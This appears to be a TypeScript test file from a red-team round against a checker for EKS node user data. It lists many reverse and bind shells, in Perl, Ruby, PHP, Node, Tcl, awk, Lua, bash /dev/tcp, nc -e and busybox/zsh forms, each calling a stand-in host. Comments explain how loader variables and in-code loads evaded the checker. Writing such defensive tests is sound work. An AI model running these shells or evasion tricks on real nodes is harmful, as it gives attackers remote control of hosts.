// Red-team round 66 on EKS NODE user data (fresh eyes on round 65's node fixes: CODE_LOADERS/loadedCode, process
// substitution as /dev/fd/63, shellReadsStdin, env -S (envSplitStrings), busybox/toybox applets, xargs items in a
// program slot, zsh ztcp, node net.connect to loopback as a client).
// Probed: code loaded from inside a program (perl do/require FILE, ruby load/require/eval File.read, php include, tcl
// eval [read [open]]), loader environment the pack does not read (PERL5DB, PHP_INI_SCAN_DIR, TCLLIBPATH with a
// pkgIndex.tcl, AWKPATH shadowing a shipped library name, AWKLIBPATH/LUA_CPATH native code downloaded), bash
// --rcfile/--init-file before a here-document, `perl < <(cat FILE)`, `bash < <(cat FILE)`, busybox timeout nc -e,
// toybox nc -L bind shell, xargs -I replacement as the program, zsh ztcp -l bind shell, node net.connect object form /
// mixed loopback and remote / net.createServer bind shell; secure neighbours of each.
// Misses (20 insecure, 1 secure). Insecure accepted: code loaded from inside a program (perl do/require FILE and `use
// Module` with -I, ruby load/require/eval File.read, php include, tcl eval [read [open]]), loader environment unread
// (PERL5DB as a require and as inline code, PHP_INI_SCAN_DIR ini auto_prepend_file, AWKPATH shadowing a shipped
// library name, AWKLIBPATH and LUA_CPATH downloaded native code, TCLLIBPATH pkgIndex.tcl overriding `package require
// http`), bash --rcfile/--init-file FILE before a here-document/here-string (the value read as the script), busybox
// ash/sh and toybox sh reading a here-document. Secure refused: AWKPATH=/opt/awk gawk -i lib of a written harmless
// library. Refused as they should be: AWKPATH of an unshipped name, `perl/bash < <(cat FILE)`, busybox timeout nc -e,
// toybox nc -L, busybox httpd/tcpsvd/telnetd, xargs -I as the program, xargs -0 sh -c '"$@"', zsh ztcp -l and ztcp via
// a here-document, node object-form connect, loopback-then-remote, host from argv, createServer, env -S'..' glued and
// --split-string=, busybox ash FILE, bash +O extglob <<EOF. Secure neighbours accepted but AWKPATH.
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

/** What a relay or a shared shell is refused as. */
const RELAY =
    /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|X server|made at boot|cannot read|cannot compute/;
const PERL_SHELL = `use IO::Socket;$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;
const RUBY_SHELL = `require "socket";c=TCPSocket.new("bastion.example.com",4444);exec "/bin/sh -i",in: c,out: c,err: c`;
const PHP_SHELL = `<?php $s=fsockopen("bastion.example.com",4444);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);`;
const NODE_SHELL_BODY = `const s=n.connect({host:"bastion.example.com",port:4444},()=>{const sh=c.spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);});`;
const TCL_SHELL = `set s [socket bastion.example.com 4444]; while 1 { puts $s [exec sh -c [gets $s]]; flush $s }`;
const AWK_SHELL = `BEGIN{s="/inet/tcp/0/bastion.example.com/4444";while(1){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}`;
const written = (path: string, text: string) => [`cat > ${path} <<'EOF'`, text, "EOF"];

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 67): perlfunc `do EXPR` ("Uses the value of EXPR as a filename and executes the contents of the file as a Perl
    // script"): a root `perl -e 'do "/opt/r.pl"'` runs the written IO::Socket + exec /bin/sh reverse shell;
    // CODE_LOADERS' perl entry reads only options (-M/-I/-d:, PERL5OPT/PERL5LIB) and its `code` is `() => []`, so
    // in-code do/require/use FILE is neither followed nor failed closed (userData.ts loadedCode). Accepted (got []).
    devNodeCase(
        "perl -e 'do \"/opt/r.pl\"' (written)",
        devNodeScript("dev-x1-nodes", [...written("/opt/r.pl", PERL_SHELL), `perl -e 'do "/opt/r.pl"'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): perlfunc `require EXPR` (a file name: "includes and runs the file" once, searched on @INC unless absolute):
    // `perl -e 'require "/opt/r.pl"'` runs the written reverse shell; CODE_LOADERS perl `code: () => []` (userData.ts)
    // does not read in-code require. Accepted.
    devNodeCase(
        "perl -e 'require \"/opt/r.pl\"' (written)",
        devNodeScript("dev-x2-nodes", [...written("/opt/r.pl", `${PERL_SHELL};1;`), `perl -e 'require "/opt/r.pl"'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): Ruby docs Kernel#load ("Loads and executes the Ruby program in the file filename"): `ruby -e 'load
    // "/opt/r.rb"'` runs the written TCPSocket + exec /bin/sh reverse shell; CODE_LOADERS ruby `code: () => []`
    // (userData.ts) reads -r/-I/RUBYOPT/RUBYLIB only. Accepted.
    devNodeCase(
        "ruby -e 'load \"/opt/r.rb\"' (written)",
        devNodeScript("dev-x3-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'load "/opt/r.rb"'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): Ruby docs Kernel#require (an absolute path is loaded as itself, `.rb` appended): `ruby -e 'require
    // "/opt/r"'` loads the written /opt/r.rb reverse shell; in-code require not read (CODE_LOADERS ruby code is empty).
    // Accepted.
    devNodeCase(
        "ruby -e 'require \"/opt/r\"' (written)",
        devNodeScript("dev-x4-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'require "/opt/r"'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): Ruby docs Kernel#eval + File.read: `eval File.read("/opt/r.rb")` runs the written reverse shell; the inline
    // program has no socket text and eval of computed text is not failed closed (lua's load of a non-literal is:
    // CODE_LOADERS lua). Accepted.
    devNodeCase(
        "ruby -e 'eval File.read(...)' (written)",
        devNodeScript("dev-x5-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'eval File.read("/opt/r.rb")'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): PHP manual, `include` ("includes and evaluates the specified file"): `php -r 'include "/opt/r.php";'` runs
    // the written fsockopen + proc_open(/bin/sh) reverse shell; CODE_LOADERS php reads auto_prepend_file
    // (-d/-c/php.ini) but its `code` is `() => []`: include/require/include_once/require_once in code are unread.
    // Accepted.
    devNodeCase(
        "php -r 'include \"/opt/r.php\";' (written)",
        devNodeScript("dev-x6-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'include "/opt/r.php";'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): PHP manual "The configuration file"/php_ini_scanned_files (additional .ini files are parsed from the
    // directories in the PHP_INI_SCAN_DIR environment variable, after php.ini): /opt/ini/99-app.ini's
    // auto_prepend_file=/opt/r.php runs the written reverse shell before `php -r`; CODE_LOADERS php reads -c/PHPRC,
    // /etc/php.ini and /etc/php.d/*.ini only (rootReads environmentOptions has no PHP_INI_SCAN_DIR). Accepted.
    devNodeCase(
        "PHP_INI_SCAN_DIR ini auto_prepend_file (written)",
        devNodeScript("dev-x7-nodes", [
            "mkdir -p /opt/ini",
            ...written("/opt/r.php", PHP_SHELL),
            "echo 'auto_prepend_file=/opt/r.php' > /opt/ini/99-app.ini",
            `PHP_INI_SCAN_DIR=/opt/ini php -r 'echo PHP_VERSION;' > /tmp/v`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): perlrun/perldebug ENVIRONMENT (PERL5DB: "The command used to load the debugger code. The default is: BEGIN
    // { require "perl5db.pl" }", run under -d): `PERL5DB='BEGIN { require "/opt/r.pl" }' perl -d -e 1` runs the written
    // reverse shell; rootReads environmentOptions reads PERL5OPT/PERL5LIB, not PERL5DB. Accepted.
    // (Round 67 node-env: PERL5DB is read now, its code judged and its loads followed by CODE_LOADERS perl `code`;
    // `require "FILE"` there is the node-loaders branch's: un-skip once both are merged.)
    devNodeCase(
        "PERL5DB require written; perl -d",
        devNodeScript("dev-x8-nodes", [
            ...written("/opt/r.pl", `${PERL_SHELL};1;`),
            `PERL5DB='BEGIN { require "/opt/r.pl" }' perl -d -e 1`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): perlrun/perldebug (PERL5DB is Perl code run at start under -d): `PERL5DB='BEGIN { IO::Socket ... exec
    // "/bin/sh -i" }' perl -d -e 1` is a reverse shell in the variable itself; the pack never reads PERL5DB as program
    // text (SOCKET_SHELL_CODE sees only -e 1). Accepted.
    devNodeCase(
        "PERL5DB inline reverse shell; perl -d",
        devNodeScript("dev-x9-nodes", [`PERL5DB='BEGIN { ${PERL_SHELL} }' perl -d -e 1`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): GNU awk manual "The AWKPATH Environment Variable" (a -f/-i name without `/` is searched in AWKPATH's
    // directories; the default path only when AWKPATH is unset): `AWKPATH=/opt/awk gawk -i assert` loads the written
    // /opt/awk/assert.awk (/inet/tcp + |& reverse shell); awkLoad (userData.ts) looks in cwd and the default
    // /usr/local/share/awk:/usr/share/awk only, finds nothing written there and takes `assert` as GAWK_KNOWN (shipped).
    // Read AWKPATH (rootReads environmentOptions). Accepted.
    devNodeCase(
        "AWKPATH shadows shipped assert.awk; gawk -i assert",
        devNodeScript("dev-a1-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/assert.awk", AWK_SHELL),
            `AWKPATH=/opt/awk gawk -i assert 'BEGIN{}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "AWKPATH unshipped name; gawk -i rev",
        devNodeScript("dev-a2-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/rev.awk", AWK_SHELL),
            `AWKPATH=/opt/awk gawk -i rev 'BEGIN{}'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): GNU awk manual "The AWKLIBPATH Environment Variable" (-l/@load extensions are searched in AWKLIBPATH; they
    // are shared libraries loaded into gawk): `AWKLIBPATH=/opt/ext gawk -l filefuncs` loads the downloaded
    // /opt/ext/filefuncs.so, native code the pack cannot read (it may listen or dial out); awkLoad ignores AWKLIBPATH
    // and takes filefuncs as GAWK_KNOWN. Accepted.
    devNodeCase(
        "AWKLIBPATH downloaded filefuncs.so; gawk -l filefuncs",
        devNodeScript("dev-a3-nodes", [
            "mkdir -p /opt/ext",
            "curl -fsSL -o /opt/ext/filefuncs.so https://downloads.example.com/filefuncs.so",
            `AWKLIBPATH=/opt/ext gawk -l filefuncs 'BEGIN{}'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): Lua manual package.cpath / lua(1) ENVIRONMENT (LUA_CPATH: the path require searches for C loaders):
    // `LUA_CPATH='/opt/lua/?.so' lua -lcjson` loads the downloaded /opt/lua/cjson.so (native code the pack cannot
    // read); luaModule searches LUA_PATH templates only and takes cjson as LUA_KNOWN_MODULES. Read LUA_CPATH (and
    // LUA_CPATH_5_x) and fail closed on a downloaded .so. Accepted.
    devNodeCase(
        "LUA_CPATH downloaded cjson.so; lua -lcjson",
        devNodeScript("dev-a4-nodes", [
            "mkdir -p /opt/lua",
            "curl -fsSL -o /opt/lua/cjson.so https://downloads.example.com/cjson.so",
            `LUA_CPATH='/opt/lua/?.so' lua -lcjson -e 'print(1)'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): tclvars(n) auto_path ("initialized during startup to contain, in order: the directories listed in the
    // TCLLIBPATH environment variable, ...") and package(n) (`package require` with no version takes the highest
    // version the pkgIndex.tcl files offer): /opt/tcl/http/pkgIndex.tcl's `package ifneeded http 9.9 [list source
    // /opt/tcl/http/r.tcl]` makes `package require http` source the written socket + exec shell; CODE_LOADERS tcl takes
    // `http` as TCL_KNOWN_PACKAGES whatever TCLLIBPATH or written pkgIndex.tcl files say. Accepted.
    devNodeCase(
        "TCLLIBPATH pkgIndex.tcl for http sources a written shell",
        devNodeScript("dev-a5-nodes", [
            "mkdir -p /opt/tcl/http",
            ...written("/opt/tcl/http/r.tcl", TCL_SHELL),
            `echo 'package ifneeded http 9.9 [list source /opt/tcl/http/r.tcl]' > /opt/tcl/http/pkgIndex.tcl`,
            `TCLLIBPATH=/opt/tcl tclsh <<< 'package require http'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): Tcl eval(n)/read(n)/open(n): `eval [read [open /opt/r.tcl]]` evaluates the written socket + exec reverse
    // shell; CODE_LOADERS tcl follows only source/load/package require, and eval of computed text is not failed closed.
    // Accepted.
    devNodeCase(
        "tclsh eval [read [open written]]",
        devNodeScript("dev-a6-nodes", [
            ...written("/opt/r.tcl", TCL_SHELL),
            `tclsh <<< 'eval [read [open /opt/r.tcl]]'`,
        ]),
        RELAY,
    ),
    // Round 67 neighbours of the in-code loads (CODE_LOADERS perl/ruby/php/tcl code): a file on a search path the
    // code or its options name, a known name shadowed by a written file, and computed paths or eval text (fail closed).
    devNodeCase(
        "perl -I/opt -e 'do \"r.pl\"' (@INC search, written)",
        devNodeScript("dev-n1-nodes", [...written("/opt/r.pl", PERL_SHELL), `perl -I/opt -e 'do "r.pl"'`]),
        RELAY,
    ),
    devNodeCase(
        "perl -I/opt -e 'require Rev' (bareword, written)",
        devNodeScript("dev-n2-nodes", [
            ...written("/opt/Rev.pm", `package Rev; ${PERL_SHELL}; 1;`),
            `perl -I/opt -e 'require Rev'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl use lib shadows JSON::PP (written)",
        devNodeScript("dev-n3-nodes", [
            "mkdir -p /opt/lib/JSON",
            ...written("/opt/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
            `perl -e 'use lib "/opt/lib"; use JSON::PP; print 1'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl BEGIN unshift @INC shadows JSON::PP (written)",
        devNodeScript("dev-n15-nodes", [
            "mkdir -p /opt/lib/JSON",
            ...written("/opt/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
            `perl -e 'BEGIN { unshift @INC, "/opt/lib" } use JSON::PP; print 1'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl do of a computed path",
        devNodeScript("dev-n4-nodes", [...written("/opt/r.pl", PERL_SHELL), `D=/opt perl -e 'do "$ENV{D}/r.pl"'`]),
        RELAY,
    ),
    devNodeCase(
        "perl eval of downloaded text",
        devNodeScript("dev-n5-nodes", [`perl -e 'my $c = qx(curl -fsSL https://downloads.example.com/c.pl); eval $c'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby $LOAD_PATH.unshift shadows json (written)",
        devNodeScript("dev-n6-nodes", [
            ...written("/opt/rb/json.rb", RUBY_SHELL),
            `ruby -e '$LOAD_PATH.unshift "/opt/rb"; require "json"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby -I/opt -e 'load \"r.rb\"' (written)",
        devNodeScript("dev-n7-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -I/opt -e 'load "r.rb"'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby require_relative (written)",
        devNodeScript("dev-n8-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `cd /opt && ruby -e 'require_relative "r"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby eval of downloaded text",
        devNodeScript("dev-n9-nodes", [
            `ruby -e 'require "net/http"; eval(Net::HTTP.get(URI("https://downloads.example.com/c.rb")))'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php -r require_once written",
        devNodeScript("dev-n10-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'require_once("/opt/r.php");'`]),
        RELAY,
    ),
    devNodeCase(
        "php -r include of a computed path",
        devNodeScript("dev-n11-nodes", [
            ...written("/opt/r.php", PHP_SHELL),
            `php -r '$d = "/opt"; include "$d/r.php";'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php -r eval(file_get_contents(written))",
        devNodeScript("dev-n12-nodes", [
            ...written("/opt/r.txt", PHP_SHELL.replace("<?php ", "")),
            `php -r 'eval(file_get_contents("/opt/r.txt"));'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tclsh uplevel #0 [read [open written]]",
        devNodeScript("dev-n13-nodes", [
            ...written("/opt/r.tcl", TCL_SHELL),
            `tclsh <<< 'uplevel #0 [read [open /opt/r.tcl]]'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tclsh eval of a computed script",
        devNodeScript("dev-n14-nodes", [`tclsh <<< 'set f [open /opt/$::env(N).tcl]; eval [read $f]'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): bash(1) OPTIONS (`--rcfile file`/`--init-file file` take the next word as their value and apply only to
    // interactive shells; "-s If the -s option is present, or if no arguments remain after option processing, then
    // commands are read from the standard input"): `bash --rcfile /etc/bashrc <<EOF` runs the here-document's /dev/tcp
    // reverse shell; shellReadsStdin (rootReads.ts) skips `--rcfile` as a flag and takes /etc/bashrc as the script
    // operand. Accepted.
    devNodeCase(
        "bash --rcfile FILE <<EOF (reads the here-document)",
        devNodeScript("dev-b1-nodes", [
            "bash --rcfile /etc/bashrc <<'EOF'",
            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): bash(1) OPTIONS (`--init-file file` is `--rcfile file`, a value-taking option): `bash --init-file
    // /etc/bashrc <<< '...'` reads the here-string's reverse shell; shellReadsStdin reads /etc/bashrc as the script.
    // Accepted.
    devNodeCase(
        "bash --init-file FILE <<<",
        devNodeScript("dev-b2-nodes", [
            `bash --init-file /etc/bashrc <<< 'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl < <(cat written)",
        devNodeScript("dev-b3-nodes", [...written("/opt/r.pl", PERL_SHELL), "perl < <(cat /opt/r.pl)"]),
        RELAY,
    ),
    devNodeCase(
        "bash < <(cat written)",
        devNodeScript("dev-b4-nodes", [
            ...written("/opt/r.sh", "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1"),
            "bash < <(cat /opt/r.sh)",
        ]),
        RELAY,
    ),
    devNodeCase(
        "busybox timeout nc -e",
        devNodeScript("dev-b5-nodes", ["busybox timeout 600 nc bastion.example.com 4444 -e /bin/sh"]),
        RELAY,
    ),
    devNodeCase("toybox nc -L bind shell", devNodeScript("dev-b6-nodes", ["toybox nc -L -p 4444 /bin/sh -i &"]), RELAY),
    devNodeCase(
        "xargs -I{} {} as the program (perl)",
        devNodeScript("dev-b7-nodes", [`echo perl | xargs -I{} {} -e '${PERL_SHELL}'`]),
        RELAY,
    ),
    devNodeCase(
        "xargs -I P P (nc -e)",
        devNodeScript("dev-b8-nodes", ["xargs -I P P bastion.example.com 4444 -e /bin/sh <<< nc"]),
        RELAY,
    ),
    devNodeCase(
        "zsh ztcp -l bind shell",
        devNodeScript("dev-b9-nodes", [
            `zsh -c 'zmodload zsh/net/tcp; ztcp -l 4444; l=$REPLY; ztcp -a $l; fd=$REPLY; /bin/sh -i <&$fd >&$fd 2>&$fd' &`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "node net.connect({host}) object form + spawn",
        devNodeScript("dev-b10-nodes", [
            `node -e 'const n=require("net"),c=require("child_process");${NODE_SHELL_BODY}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "node loopback check then remote shell",
        devNodeScript("dev-b11-nodes", [
            `node -e 'const n=require("net"),c=require("child_process");n.connect(10248,"127.0.0.1").on("error",()=>0);${NODE_SHELL_BODY}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "node net.createServer bind shell",
        devNodeScript("dev-b12-nodes", [
            `node -e 'const n=require("net"),c=require("child_process");n.createServer(s=>{const sh=c.spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);}).listen(4444)' &`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "env -S glued nc -e",
        devNodeScript("dev-b13-nodes", [`env -S'nc bastion.example.com 4444 -e /bin/sh'`]),
        RELAY,
    ),
    devNodeCase(
        "env --split-string= nc -e",
        devNodeScript("dev-b14-nodes", [`env --split-string='nc bastion.example.com 4444 -e /bin/sh'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): perlfunc `use Module` (require at compile time, Module.pm on @INC; -I prepends to @INC: perlrun): `perl
    // -I/opt -e 'use Rev'` runs the written /opt/Rev.pm reverse shell; -MRev is followed (CODE_LOADERS perl options)
    // but in-code `use`/`require Module` is not (perl `code: () => []`). Accepted.
    devNodeCase(
        "perl -I/opt -e 'use Rev' (written)",
        devNodeScript("dev-c1-nodes", [
            ...written("/opt/Rev.pm", `package Rev; ${PERL_SHELL}; 1;`),
            `perl -I/opt -e 'use Rev'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "xargs -0 sh -c '\"$@\"' (items are the program)",
        devNodeScript("dev-c2-nodes", [`printf '%s\\0' perl -e '${PERL_SHELL}' | xargs -0 sh -c '"$@"' sh`]),
        RELAY,
    ),
    devNodeCase(
        "node connect host from argv (loopback default in code)",
        devNodeScript("dev-c3-nodes", [
            `node -e 'const n=require("net"),c=require("child_process");const h=process.argv[1]||"127.0.0.1";const s=n.connect(4444,h,()=>{const sh=c.spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);});' bastion.example.com`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "zsh <<EOF ztcp reverse shell",
        devNodeScript("dev-c4-nodes", [
            "zsh <<'EOF'",
            "zmodload zsh/net/tcp",
            "ztcp bastion.example.com 4444",
            "fd=$REPLY; /bin/sh -i <&$fd >&$fd 2>&$fd",
            "EOF",
        ]),
        RELAY,
    ),
    devNodeCase(
        "busybox httpd -h / (serves the node's files)",
        devNodeScript("dev-c5-nodes", ["busybox httpd -p 0.0.0.0:8080 -h /"]),
        /./,
    ),
    devNodeCase(
        "busybox tcpsvd bind shell",
        devNodeScript("dev-c6-nodes", ["busybox tcpsvd -vE 0.0.0.0 4444 /bin/sh -i &"]),
        /./,
    ),
    devNodeCase(
        "busybox telnetd -l /bin/sh",
        devNodeScript("dev-c7-nodes", ["busybox telnetd -l /bin/sh -p 2323"]),
        /./,
    ),
    // Was a MISS (fixed in round 67): BusyBox docs (`busybox APPLET ARGS`: `ash` is the shell applet; ash reads standard input given no script) :
    // `busybox ash <<EOF` runs the here-document's `nc HOST 4444 -e /bin/sh`; plain `ash <<EOF` is refused, but
    // shellReadsStdin is asked about the name `busybox` (not appletWords'd) in rootReads here-document reading.
    // Accepted.
    devNodeCase(
        "busybox ash <<EOF reverse shell",
        devNodeScript("dev-c8-nodes", ["busybox ash <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): BusyBox docs (`sh` applet is ash): `busybox sh <<EOF` with an nc -e reverse shell is accepted while
    // `busybox sh -c` and `sh <<EOF` are refused: shellReadsStdin/here-document reading does not go through
    // appletWords. Accepted.
    devNodeCase(
        "busybox sh <<EOF reverse shell",
        devNodeScript("dev-c10-nodes", ["busybox sh <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "busybox ash written script",
        devNodeScript("dev-c11-nodes", [
            ...written("/opt/r.sh", "nc bastion.example.com 4444 -e /bin/sh"),
            "busybox ash /opt/r.sh",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 67): toybox docs (`toybox sh`: the toysh applet, reading standard input given no script): `toybox sh <<EOF` with
    // an nc -e reverse shell is accepted (as busybox sh <<EOF): here-document reading does not strip the multicall
    // wrapper. Accepted.
    devNodeCase(
        "toybox sh <<EOF reverse shell",
        devNodeScript("dev-c12-nodes", ["toybox sh <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "ash <<EOF reverse shell (no busybox)",
        devNodeScript("dev-c13-nodes", ["ash <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "bash +O extglob <<EOF",
        devNodeScript("dev-c9-nodes", [
            "bash +O extglob <<'EOF'",
            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
        ]),
        RELAY,
    ),
    // Round 67 neighbours (node-env): loader variables the pack cannot compute, set earlier, read by in-code loads, the
    // Lua path for -l, PHP's blank scan entry and -c, perl -dt, a Tcl script, busybox/bash stdin forms.
    devNodeCase(
        "AWKPATH from a command's output; gawk -i assert",
        devNodeScript("dev-n1-nodes", [`AWKPATH=$(cat /etc/awkpath) gawk -i assert 'BEGIN{}'`]),
        RELAY,
    ),
    devNodeCase(
        "export AWKPATH earlier; gawk -i assert (written)",
        devNodeScript("dev-n2-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/assert.awk", AWK_SHELL),
            "export AWKPATH=/opt/awk",
            `gawk -i assert 'BEGIN{}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        'AWKPATH; @include "assert" in the program (written)',
        devNodeScript("dev-n3-nodes", [
            "mkdir -p /opt/awk",
            ...written("/opt/awk/assert.awk", AWK_SHELL),
            ...written("/opt/main.awk", '@include "assert"\nBEGIN { print 1 }'),
            "AWKPATH=/opt/awk gawk -f /opt/main.awk",
        ]),
        RELAY,
    ),
    devNodeCase(
        "AWKLIBPATH: a null entry is the working directory (downloaded .so)",
        devNodeScript("dev-n4-nodes", [
            "cd /opt",
            "curl -fsSL -o /opt/filefuncs.so https://downloads.example.com/filefuncs.so",
            `AWKLIBPATH=:/usr/lib64/gawk gawk -l filefuncs 'BEGIN{}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "LUA_PATH written cjson.lua; lua -lcjson",
        devNodeScript("dev-n5-nodes", [
            "mkdir -p /opt/lua",
            ...written(
                "/opt/lua/cjson.lua",
                `local s=require("socket").tcp();s:connect("bastion.example.com",4444);while true do local l=s:receive();local f=io.popen(l);s:send(f:read("*a")) end`,
            ),
            `LUA_PATH='/opt/lua/?.lua' lua -lcjson -e 'print(1)'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "LUA_CPATH_5_4 downloaded lfs.so; lua5.4 -llfs",
        devNodeScript("dev-n6-nodes", [
            "curl -fsSL -o /opt/lfs.so https://downloads.example.com/lfs.so",
            `LUA_CPATH_5_4='/opt/?.so;;' lua5.4 -llfs -e 'print(1)'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "PHP_INI_SCAN_DIR blank entry and /opt/ini (written prepend)",
        devNodeScript("dev-n7-nodes", [
            "mkdir -p /opt/ini",
            ...written("/opt/r.php", PHP_SHELL),
            "echo 'auto_prepend_file=/opt/r.php' > /opt/ini/99-app.ini",
            `PHP_INI_SCAN_DIR=:/opt/ini php -r 'echo 1;'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php -c FILE still scans /etc/php.d (written prepend)",
        devNodeScript("dev-n8-nodes", [
            ...written("/opt/r.php", PHP_SHELL),
            "echo 'auto_prepend_file=/opt/r.php' > /etc/php.d/99-app.ini",
            "echo 'memory_limit=256M' > /opt/php.ini",
            `php -c /opt/php.ini -r 'echo 1;'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "PHP_INI_SCAN_DIR unpacked tree",
        devNodeScript("dev-n9-nodes", [
            "mkdir -p /opt/ini",
            "curl -fsSL https://downloads.example.com/ini.tgz | tar -xz -C /opt/ini",
            `PHP_INI_SCAN_DIR=/opt/ini php -r 'echo 1;'`,
        ]),
        /./,
    ),
    devNodeCase(
        "PERL5DB inline reverse shell; perl -dt",
        devNodeScript("dev-n10-nodes", [`PERL5DB='BEGIN { ${PERL_SHELL} }' perl -dt -e 1`]),
        RELAY,
    ),
    devNodeCase(
        "PERL5OPT=-d with PERL5DB reverse shell",
        devNodeScript("dev-n11-nodes", [`PERL5OPT=-d PERL5DB='BEGIN { ${PERL_SHELL} }' perl -e 1`]),
        RELAY,
    ),
    devNodeCase(
        "TCLLIBPATH index; tclsh script with package require",
        devNodeScript("dev-n12-nodes", [
            "mkdir -p /opt/tcl/http",
            ...written("/opt/tcl/http/r.tcl", TCL_SHELL),
            `echo 'package ifneeded http 9.9 [list source /opt/tcl/http/r.tcl]' > /opt/tcl/http/pkgIndex.tcl`,
            ...written("/opt/app.tcl", "package require http"),
            "TCLLIBPATH=/opt/tcl tclsh /opt/app.tcl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "index written in the default auto_path; tclsh <<<",
        devNodeScript("dev-n13-nodes", [
            "mkdir -p /usr/share/tcl8.6/httpx",
            ...written("/usr/share/tcl8.6/httpx/r.tcl", TCL_SHELL),
            `echo 'package ifneeded http 9.9 [list source /usr/share/tcl8.6/httpx/r.tcl]' > /usr/share/tcl8.6/httpx/pkgIndex.tcl`,
            `tclsh <<< 'package require http'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "busybox sh -s <<EOF reverse shell",
        devNodeScript("dev-n14-nodes", ["busybox sh -s <<'EOF'", "nc bastion.example.com 4444 -e /bin/sh", "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "bash --rcfile FILE -s <<EOF",
        devNodeScript("dev-n15-nodes", [
            "bash --rcfile /etc/bashrc -s <<'EOF'",
            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
        ]),
        RELAY,
    ),
    devNodeCase(
        "busybox sh piped a download",
        devNodeScript("dev-n16-nodes", ["curl -fsSL https://downloads.example.com/x.sh | busybox sh"]),
        /./,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "perl -e 'do \"/opt/cfg.pl\"' (harmless)",
        devNodeScript("dev-s1-nodes", [
            ...written("/opt/cfg.pl", `open my $f, ">", "/tmp/p"; print $f "ok"; close $f;`),
            `perl -e 'do "/opt/cfg.pl"'`,
        ]),
    ),
    devNodeCase(
        "ruby -e 'load \"/opt/h.rb\"' (harmless)",
        devNodeScript("dev-s2-nodes", [
            ...written("/opt/h.rb", `File.write("/tmp/hello", "hi")`),
            `ruby -e 'load "/opt/h.rb"'`,
        ]),
    ),
